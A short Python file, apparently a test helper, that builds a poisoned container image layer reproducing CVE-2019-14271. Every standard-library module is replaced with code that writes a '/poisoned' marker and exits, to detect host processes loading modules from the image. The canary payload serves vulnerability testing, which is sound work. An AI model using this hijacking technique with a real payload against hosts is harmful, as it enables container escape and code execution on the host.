"""An image that waits for a process of the host to load its libraries: the way of CVE-2019-14271."""

import sys
import sysconfig
from pathlib import Path
from typing import Final

MARKER: Final = "poisoned"
_CODE: Final = f"""
import posix, sys
try:
    fd = posix.open("/{MARKER}", posix.O_WRONLY | posix.O_CREAT, 0o666)
    posix.write(fd, __name__.encode())
finally:
    posix._exit(86)
"""
"""Whoever loads it ends, also where it can't write."""


def poisoned_layer(folder: Path) -> Path:
    """A layer in which each module that the host's interpreter could look for ends it, and writes ``/poisoned`` where it can."""
    places = {sysconfig.get_path("stdlib"), sysconfig.get_path("platstdlib")}
    packages = {path.parent.name for place in places for path in Path(place).glob("*/__init__.py")}
    for place in places:
        inner = folder / place.lstrip("/")
        inner.mkdir(parents=True, exist_ok=True)
        for name in sys.stdlib_module_names:
            (inner / f"{name}.py").write_text(_CODE)
        for package in packages:
            (inner / package).mkdir(exist_ok=True)
            for path in Path(place, package).glob("*.py"):
                (inner / package / path.name).write_text(_CODE)
            (inner / package / "__init__.py").write_text(_CODE)
    return folder
